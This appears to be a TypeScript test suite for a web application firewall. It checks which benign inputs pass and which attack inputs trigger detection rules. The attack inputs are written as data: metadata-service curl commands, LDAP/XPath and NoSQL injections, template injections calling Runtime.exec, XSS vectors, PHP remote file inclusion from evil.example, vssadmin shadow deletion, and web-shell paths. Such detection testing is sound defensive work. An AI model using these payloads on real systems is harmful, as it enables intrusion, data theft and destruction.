// biome-ignore-all lint/suspicious/noTemplateCurlyInString: that is how these texts are written
/** What is spared by the structure of a text, beside the attacks that stand close to it. */
import { matchedIds, send, sendJson, sendRequest, sites } from './test-support/send.ts';

const METADATA = 'http://169.254.169.254/latest/meta-data/region';
const fence = (code: string, language = '') => `\`\`\`${language}\n${code}\n\`\`\``;

describe('addresses of metadata services', () => {
  it.each([
    `#cloud-config\nruncmd:\n  - curl -s ${METADATA} > /etc/region`,
    `user data\n\nREGION=$(curl -s ${METADATA})`,
    `data "http" "region" {\n  url = "${METADATA}"\n}`,
    'Ask the service at 169.254.169.254.',
  ])('pass in a further line of %j', (text) => {
    expect(matchedIds(send(sites.medium, text))).toEqual([]);
  });

  it.each([
    METADATA,
    `see ${METADATA}`,
    `name: a\nurl: ${METADATA}`,
    `A=1\nURL=${METADATA}`,
    `sources\n  - "${METADATA}"`,
    `pictures\n![](${METADATA})`,
    `<p>\n<img alt="a" src = "${METADATA}">`,
    `sources = [\n "a", "${METADATA}"]`,
  ])('are stopped where they are asked: %j', (text) => {
    expect(matchedIds(send(sites.low, text))).toContain(11001);
  });

  it('are stopped behind a command in a further line', () => {
    expect(send(sites.medium, `192.0.2.1\ncurl -s ${METADATA}`).interruption).not.toBeNull();
  });
});

describe('filters of directories', () => {
  it.each([
    '(&(objectClass=user)(department=Sales)(!(userAccountControl:1.2.840.113556.1.4.803:=2)))',
    'We filter by `(&(objectClass=person)(mail=*@shop.example))`. Groups: `(memberOf=cn=a,dc=shop)`. Escape `*`, `(` and `)`.',
    '- `//li[1]`\n- `count(//li)`',
    "`ldapsearch -x -b 'dc=shop,dc=example' '(&(objectClass=person)(|(uid=anna)(mail=anna@*)))' cn`",
    'The page on `ldap://` servers (`ldaps://` is 636) lacks escaping: `(&(objectClass=user)(uid=%s))`.',
  ])('pass, closed: %j', (text) => {
    expect(matchedIds(send(sites.medium, text))).not.toContain(13001);
  });

  it.each([
    'jane)(&(objectClass=user)(cn=a)',
    '(&(objectClass=user)(password=*))',
    '(&(uid=jane)(mail=a)',
    'jane)(|(uid=a)(cn=b)) (&(mail=a)(cn=b))',
    "(&(a=b)(c=d)) ' or count(//user)=1 or '",
    "1' and count(/*)=1 and '1'='1",
    'x)(uid=jane',
    '(&(uid=a)(|(b=c)(password=*)))',
    'a)(|(cn=a)(cn=b)',
    "x ',cn=a)(|(cn=a)(cn=b))",
    '(`a`) *)(uid=*))(|(uid=*',
  ])('are stopped, opened or closed by the value: %j', (text) => {
    expect(matchedIds(send(sites.medium, text))).toContain(13001);
  });
});

describe('code in a fence of Markdown', () => {
  it.each([
    `How to update:\n${fence('Class<?> c = Class.forName("a.B");\nRuntime.getRuntime().exec(new String[]{"git", "pull"});', 'java')}`,
    fence('for line in f:lines() do print(line) end; f:close(); os.execute("sleep 1")', 'lua'),
  ])('passes: %j', (text) => {
    const ids = matchedIds(send(sites.medium, text));
    for (const id of [6002, 8005, 20003]) expect(ids).not.toContain(id);
  });

  it.each([
    'Runtime.getRuntime().exec("uptime")',
    `a\n${fence('${Runtime.getRuntime().exec("uptime")}')}`,
    `a\n${fence('$${Runtime.getRuntime().exec("uptime")}')}`,
    `a\n${fence('{{Runtime.getRuntime().exec("uptime")}}')}`,
    `a\n${fence('<%Runtime.getRuntime().exec("uptime")%>')}`,
    `a';Runtime.getRuntime().exec("uptime")//${fence('b')}`,
    `${fence('b')}\nRuntime.getRuntime().exec("uptime")`,
    '```\nRuntime.getRuntime().exec("uptime")',
  ])('is stopped where a template opens, or outside of the fence: %j', (text) => {
    expect(matchedIds(send(sites.medium, text))).toContain(6002);
  });
});

describe('reports of browsers on a policy', () => {
  const report = (type: string, body: string) =>
    matchedIds(sendRequest(sites.medium, { headers: ['Content-Type', type], body }));

  it('pass with the script that did not run, not with markup', () => {
    expect(report('application/csp-report', '{"csp-report":{"script-sample":"alert(1)"}}')).toEqual([]);
    expect(report('application/reports+json', '[{"body":{"sample":"alert(1)"}}]')).toEqual([]);
    expect(
      report('application/csp-report', '{"csp-report":{"script-sample":"<img src=x onerror=alert(1)>"}}'),
    ).toContain(2001);
    expect(report('application/csp-report', '{"csp-report":{"script-sample":"a","x":"alert(1)"}}')).toContain(
      2003,
    );
    expect(report('application/json', '{"csp-report":{"script-sample":"alert(1)"}}')).toContain(2003);
  });

  it('pass with a frame of a stack that ran in eval', () => {
    expect(
      matchedIds(send(sites.medium, 'at eval (eval at <anonymous> (https://a.example/a.js:1:1))')),
    ).toEqual([]);
    expect(matchedIds(send(sites.medium, 'eval(eval(a))'))).toContain(2003);
    expect(matchedIds(send(sites.medium, 'eval(evaluate("a"))'))).toContain(2003);
  });
});

describe('addresses of inner networks', () => {
  const query = (name: string, value: string) =>
    matchedIds(sendRequest(sites.medium, { target: `/a?${name}=${encodeURIComponent(value)}` }));

  it.each([
    ['url', 'http://10.0.0.5:8080/admin'],
    ['src', 'http://192.168.1.1/'],
    ['import[feed_url]', 'https://172.17.0.1:2375/containers/json'],
    ['image_url', 'http://a@10.1.2.3/'],
  ])('%s=%s is stopped', (name, value) => {
    expect(query(name, value)).toContain(11006);
  });

  it.each([
    ['redirect_uri', 'http://192.168.1.5:8123/auth'],
    ['return_url', 'http://10.0.0.5/'],
    ['q', 'http://192.168.1.1/'],
    ['url', 'http://10.example/'],
    ['url', 'http://172.15.0.1/'],
    ['url', 'https://shop.example/?from=10.0.0.5'],
  ])('%s=%s passes', (name, value) => {
    expect(query(name, value)).toEqual([]);
  });

  it('in documents the name has to say what is fetched', () => {
    const ids = (body: string) => matchedIds(sendJson(sites.medium, body));
    expect(ids('{"hook":{"webhook":"http://10.0.0.5/a"}}')).toContain(11006);
    expect(ids('{"a":{"avatar_url":"http://10.0.0.5/a"}}')).toContain(11006);
    expect(ids('{"type":"prometheus","url":"http://10.0.0.5:9090"}')).toEqual([]);
  });
});

describe('parts of a page from elsewhere', () => {
  const query = (text: string) => matchedIds(sendRequest(sites.medium, { target: `/index.php?${text}` }));

  it.each([
    [7007, 'page=//evil.example/a.txt'],
    [7007, 'lang=//evil.example/a.inc'],
    [7007, 'module=ftp://evil.example/a.txt'],
    [7007, 'conf[path]=//192.0.2.7:80/a.php'],
    [7002, 'a=//evil.example/c99.txt'],
    [7008, '_SERVER[DOCUMENT_ROOT]=a'],
    [7006, '0=system&1=uptime'],
    [11003, 'a=https://evil.example/a.txt%00'],
  ])('%i stops %s', (id, text) => {
    expect(query(text)).toContain(id);
  });

  it.each([
    'page=https://shop.example/a.html',
    'file=https://cdn.shop.example/a.pdf',
    'lang=//de',
    'content=//cdn.shop.example/a.jpg',
    't=system',
    'u=http%3A%2F%2Fwww.shop.example%00',
    'server[name]=a',
  ])('%s passes', (text) => {
    expect(query(text)).toEqual([]);
  });
});

describe('operators in the place of a value', () => {
  const form = (body: string) =>
    matchedIds(
      sendRequest(sites.medium, { headers: ['Content-Type', 'application/x-www-form-urlencoded'], body }),
    );

  it.each(['u[$regex]=.*', 'q[$nin][]=x', 'user[$ne]=x'])('%s is stopped', (body) => {
    expect(form(body)).toContain(12001);
  });

  it.each(['price[$gt]=10', 'status[$in][]=new', 'filters[title][$eq]=a', '$sort[name]=1'])(
    '%s passes',
    (body) => {
      expect(form(body)).toEqual([]);
    },
  );

  it('a document is none, and no value is more than nothing', () => {
    expect(matchedIds(sendJson(sites.medium, '{"$gt":""}'))).toContain(12001);
    expect(matchedIds(sendJson(sites.medium, '{"$nin":["a"]}'))).toContain(12001);
    expect(matchedIds(send(sites.medium, '{"selector":{"_id":{"$gt":null}}}'))).toContain(12002);
    expect(matchedIds(sendJson(sites.medium, '{"selector":{"_id":{"$gt":null}}}'))).toEqual([]);
    expect(matchedIds(send(sites.medium, '{"price":{"$gt":10}}'))).toEqual([]);
  });
});

describe('GraphQL', () => {
  const list = (length: number, query: string) =>
    JSON.stringify(Array.from({ length }, (_, at) => ({ query: query.replace('N', String(at)) })));

  const post = (body: string) =>
    matchedIds(
      sendRequest(sites.medium, {
        target: '/graphql',
        headers: ['Content-Type', 'application/json'],
        body,
      }),
    );

  it('is stopped in long lists and in fragments of nothing else', () => {
    expect(post(list(61, 'mutation{login(pin:"N"){token}}'))).toContain(8007);
    expect(post(list(60, '{a(id:N){b}}'))).not.toContain(8007);
    expect(post(list(80, 'shoes N'))).toEqual([]);
    const circle = 'fragment A on Q{...B} fragment B on Q{...A} query{...A}';
    expect(post(JSON.stringify({ query: circle }))).toContain(8006);
    const plain = 'fragment A on Q{id ...B} fragment B on Q{...C} fragment C on Q{name} query{...A}';
    expect(post(JSON.stringify({ query: plain }))).toEqual([]);
  });
});

describe('programs', () => {
  it.each([
    [4001, '& vssadmin delete shadows /all'],
    [4001, '& copy \\\\evil.example\\a\\b.exe .'],
    [4001, '$(Get-ChildItem Env:)'],
    [4004, "Start-Process cmd -ArgumentList '/c dir'"],
    [7005, 'AddType application/x-httpd-php .jpg'],
    [7005, '<FilesMatch "\\.gif$">\nSetHandler application/x-httpd-php\n</FilesMatch>'],
    [7005, 'print_r(scandir("."));'],
    [7005, 'Response.Write(new ActiveXObject("WScript.Shell").exec("cmd /c dir"))'],
    [7001, "#!/usr/bin/perl\nsystem(param('a'));"],
    [6002, 'T(org.springframework.util.StreamUtils).copy(1,2)'],
    [6002, '.internalGet(\\u0027ognl\\u0027).findValue(#parameters.x,{})'],
    [6004, "#{request.getParameter('a')}"],
    [1010, '4 or id between 7 and 9'],
    [14004, '["java.util.HashMap",{"x":["org.apache.xbean.propertyeditor.JndiConverter",{}]}]'],
  ])('%i stops %j', (id, value) => {
    expect(matchedIds(send(sites.medium, value))).toContain(id);
  });

  it.each([
    '& copy that, over',
    '| start here | end there',
    'AddHandler application/x-httpd-php82 .php',
    'Call Response.Write in ASP to print a text',
    'start-process',
    'In JSP one writes ${request.getParameter("a")} for it.',
    'We print the list of files, see scandir',
    'get-together on Friday; set-up at 5',
  ])('%j passes', (value) => {
    expect(matchedIds(send(sites.medium, value))).toEqual([]);
  });

  it.each(['/uploads/c99.php', '/debug/pprof/heap', '/config/database.yml', '/cgi-bin/test-cgi'])(
    '17001 stops %s',
    (target) => {
      expect(matchedIds(sendRequest(sites.low, { target }))).toContain(17001);
    },
  );

  it('a store of files keeps pages of PHP, a server does not', () => {
    const put = (target: string) =>
      matchedIds(sendRequest(sites.medium, { method: 'PUT', target, body: 'a' }));
    expect(put('/remote.php/dav/files/jane/site/index.php')).toEqual([]);
    expect(put('/cloud/remote.php/webdav/index.php')).toEqual([]);
    for (const target of [
      '/index.php',
      '/webdav/a.php',
      '/remote.php/dav/a.jsp',
      '/remote.php/dav/../../a.php',
    ])
      expect(put(target)).toContain(19002);
  });
});

describe('scripts of a page of its own', () => {
  it.each([
    '```html\n<form onsubmit="return this.q.value !== \'\'"><input name="q"></form>\n```\nSafari ignores the handler?',
    '<!doctype html>\n<head><script src="app.js" defer></script></head>\n<body onload="init()"></body>',
    'onclick="this.disabled=true" on the button stops the form.',
    '<li onclick="pick(${i.id})">a</li>',
    '<p>- &lt;a href=&quot;#&quot; onclick=&quot;openMenu()&quot;&gt;Menu&lt;/a&gt;</p>',
    '<script type="application/ld+json">{"@context":"https://schema.org","@type":"Event","name":"R&B Night"}</script>',
  ])('pass: %j', (text) => {
    expect(send(sites.medium, text).interruption).toBeNull();
  });

  it.each([
    '<b onclick="alert(1)">a</b>',
    '<b onclick="init();alert(1)">a</b>',
    '<b onclick="init()" onmouseover="alert(1)">a</b>',
    '<b onclick="init()"onmouseover=alert(1)>a</b>',
    '<b title="a onclick="init()" onmouseover="alert(1)">a</b>',
    '<b onclick="\x61lert(1)">a</b>',
    '<b onclick="&#97;lert(1)">a</b>',
    '<b onclick="top[init()]">a</b>',
    '" onfocus="alert(1)" onblur="init()" x="',
    '<script src="app.js"></script><script>alert(1)</script>',
    '<script src="app.js" src="//a.example/b.js"></script>',
    '<script src="uploads/app.js"></script>',
    '<script type="application/ld+json"></script><script>alert(1)</script>',
    '<script type="application/ld+json" type="module" src="//a.example/b.js"></script>',
    '<script type="application/ld+json">" onfocus="alert(1)" x="</script>',
    '<scr<script type="application/json">ipt>alert(1)</script>',
    '<p>&lt;b onclick=&quot;&#97;lert(1)&quot;&gt;</p>',
    '<b onclick="init(&#39;);alert(1)//&#39;)">a</b>',
    '<b onclick="init(\\x27);alert(1)//\\x27)">a</b>',
    '<scr<script src="app.js"></script>ipt>alert(1)</script>',
    '<img src=x on<script src="app.js"></script>error=alert(1)>',
  ])("are stopped where they are an attacker's: %j", (text) => {
    for (const wrapped of [text, `Hello team,\n\nit's this:\n\n\`\`\`html\n${text}\n\`\`\`\n\nThanks!`])
      expect(send(sites.medium, wrapped).interruption).not.toBeNull();
  });
});

describe('names of calls among words', () => {
  it.each([
    'Is eval() always bad? Our linter forbids it.',
    'Please remove `console.log(document.cookie)` before merging :)',
    'The old way was `Runtime.getRuntime().exec(...)`.',
    'Otherwise `!!python/object` tags are honoured.',
    'It refuses http://localhost:3000, http://127.0.0.1:8080/cb and http://[::1]:5173 as places to return to.',
    '#set($n = $user.name)\nHello $n',
    '```js\ndb.orders.find({ total: { $gt: 100 } }).sort({ createdAt: -1 })\ndb.orders.aggregate([{ $match: { shop: 3 } }])\n```',
    "```php\n<?php\nadd_filter('the_content', fn ($c) => trim($c));\n```\nbreaks the editor",
  ])('pass: %j', (text) => {
    expect(send(sites.medium, text).interruption).toBeNull();
  });

  it.each([
    "'-eval()-'",
    'eval();//',
    'eval() in x',
    'eval()\n//',
    'alert(document.cookie)',
    "x';blog(document.cookie)//",
    'Runtime.getRuntime().exec(x)',
    'Runtime.getRuntime().exec("id")',
    'Runtime.getRuntime().exec\n("id")',
    '!!python/object/apply:os.system ["id"]',
    '!!python/object:__main__.A {}',
    'see http://[::1]:5173',
    'see http://[::1]:5173/admin and more',
    '#set($x=$a.b("c"))',
    '#set($x=$a["b"])',
    '1)\ndb.users.find({})',
    "';db.users.find()",
    '<?php echo `id`; ?>',
    '<?php\n`id`;',
    '<?=`id`?>',
    '<?php ``; `id`;',
    'A plugin:\n\n```php\n<?php\necho `id`;\n```\n',
  ])('are stopped where they are calls: %j', (text) => {
    expect(send(sites.medium, text).interruption).not.toBeNull();
  });
});
